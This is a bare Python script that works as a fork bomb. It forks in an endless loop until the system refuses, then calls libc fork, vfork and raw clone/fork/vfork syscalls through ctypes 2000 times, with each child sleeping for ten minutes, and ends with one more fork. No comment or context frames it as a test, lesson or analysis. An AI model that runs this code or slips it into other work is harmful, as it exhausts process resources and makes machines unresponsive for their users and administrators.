import os
import threading
import time

while True:
    try:
        os.fork()
    except OSError:
        break
# No fork: then everything else that multiplies, and last what is honest about it.
import ctypes

libc = ctypes.CDLL(None)
for _ in range(2000):
    for child in (libc.fork(), libc.vfork(), libc.syscall(56, 17, 0, 0, 0, 0), libc.syscall(57), libc.syscall(58)):
        if child == 0:
            time.sleep(600)
os.fork()
